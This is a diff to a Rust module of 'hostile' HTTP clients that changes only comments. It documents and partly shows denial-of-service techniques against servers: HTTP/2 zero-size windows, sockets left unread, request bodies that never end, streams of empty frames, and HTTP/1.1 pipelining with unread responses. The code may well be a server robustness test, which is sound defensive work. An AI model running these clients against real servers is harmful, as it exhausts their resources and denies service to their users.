@@ -1,4 +1,4 @@
-//! Clients that request much data and read none of it.
+//! Clients that request large amounts of data and never read it.
 
 use std::net::SocketAddr;
 use std::path::Path;
@@ -22,15 +22,15 @@ const PAUSE: Duration = Duration::from_millis(100);
 /// A kind of attack.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
 pub enum Way {
-    /// HTTP/2 with a window of 0: no byte of a response may be sent.
+    /// HTTP/2 with a window of 0, so the server cannot send any part of a response body.
     Closed,
-    /// HTTP/2 with the largest windows, on a socket that is not read.
+    /// HTTP/2 with the largest windows, on a socket that the client does not read.
     Unread,
-    /// HTTP/2 with request bodies that do not end.
+    /// HTTP/2 with request bodies that never end.
     Bodies,
-    /// HTTP/2 with empty frames of a body that does not end.
+    /// HTTP/2 with a request body that consists of empty frames and never ends.
     Empty,
-    /// HTTP/1.1 with many pipelined requests on a socket that is not read.
+    /// HTTP/1.1 with many pipelined requests, on a socket that the client does not read.
     Pipelined,
 }
 
@@ -80,7 +80,8 @@ impl Target {
         TlsConnector::from(Arc::clone(&self.tls)).connect(name, stream).await
     }
 
-    /// Opens one connection and sends its requests without reading responses.
+    /// Opens one connection and sends its requests without reading responses. Returns `None` if the
+    /// connection fails.
     pub async fn attack(&self, way: Way) -> Option<Hostile> {
         let mut stream = self.connect().await.ok()?;
         if way == Way::Pipelined {
@@ -99,7 +100,7 @@ impl Target {
         };
         let (mut requests, mut connection) = builder.handshake(stream).await.ok()?;
         let asking = self.ask(&mut requests, way);
-        // Without polling the connection, its socket is not read.
+        // The client reads from its socket only while the connection is polled.
         let asked = async {
             tokio::select! {
                 _ = asking => {}
@@ -131,7 +132,7 @@ impl Target {
             }
             held.push((answer, body));
         }
-        // In small groups, because unsent requests take memory of this process.
+        // Sends in small batches, because unsent requests occupy memory in this process.
         for _ in 0..if way == Way::Empty { 100 } else { 0 } {
             for (_, body) in &mut held {
                 let _ = (0..20).try_for_each(|_| body.send_data(Bytes::new(), false));
